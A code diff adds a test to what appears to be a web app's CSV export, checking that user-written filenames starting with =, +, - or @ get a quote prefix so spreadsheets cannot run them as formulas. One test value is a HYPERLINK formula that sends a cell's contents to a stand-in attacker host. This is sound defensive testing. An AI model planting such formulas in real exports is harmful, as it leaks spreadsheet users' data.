@@ -158,6 +158,17 @@ def test_csv_streams_the_whole_filtered_set_in_chunks_and_respects_scope(
     assert "@example.com" not in everyone
 
 
+def test_csv_cells_a_person_wrote_never_start_a_spreadsheet_formula(
+    session: Session, people: dict[str, int]
+) -> None:
+    hostile = '=HYPERLINK("http://evil.co/?d="&A1,"open")'
+    for name in (hostile, "+1.jpg", "-x.jpg", "@SUM(1).jpg", "palm.jpg"):
+        add_reading(session, ReadingSpec(people["ana"], filename=name))
+    text = "".join(history.export_csv(session, viewer(people["ana"]), ExploreFilter()))
+    names = {row["filename"] for row in csv.DictReader(io.StringIO(text))}
+    assert names == {"'" + hostile, "'+1.jpg", "'-x.jpg", "'@SUM(1).jpg", "palm.jpg"}
+
+
 def test_csv_of_nothing_is_just_the_header(session: Session, people: dict[str, int]) -> None:
     text = "".join(history.export_csv(session, viewer(people["ana"]), ExploreFilter()))
     assert text.strip() == ",".join(history.CSV_COLUMNS)
